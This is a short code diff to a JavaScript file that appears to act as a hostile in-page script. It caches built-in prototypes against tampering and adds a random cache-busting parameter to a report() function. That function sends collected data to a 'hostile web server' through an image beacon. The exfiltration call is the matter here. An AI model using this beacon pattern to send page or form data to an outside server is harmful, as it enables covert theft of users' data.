@@ -22,6 +22,7 @@
   const targetOf = /** @type {any} */ (getOwnPropertyDescriptor(Event.prototype, "target")).get;
   const { Image: Picture, CustomEvent: Custom, SubmitEvent: Submit, InputEvent: Input, StaticRange: Static, Proxy: Wrapper } = window;
   const encode = encodeURIComponent;
+  const { random } = Math;
   const indexOf = String.prototype.indexOf;
   const slice = String.prototype.slice;
   const lastIndexOf = String.prototype.lastIndexOf;
@@ -46,7 +47,7 @@
 
   /** Report to the hostile web server. @param {string} what */
   function report(what) {
-    new Picture().src = `${options.report}?what=${encode(what)}`;
+    new Picture().src = `${options.report}?what=${encode(what)}&n=${random()}`;
   }
 
   /** @param {string} selector */
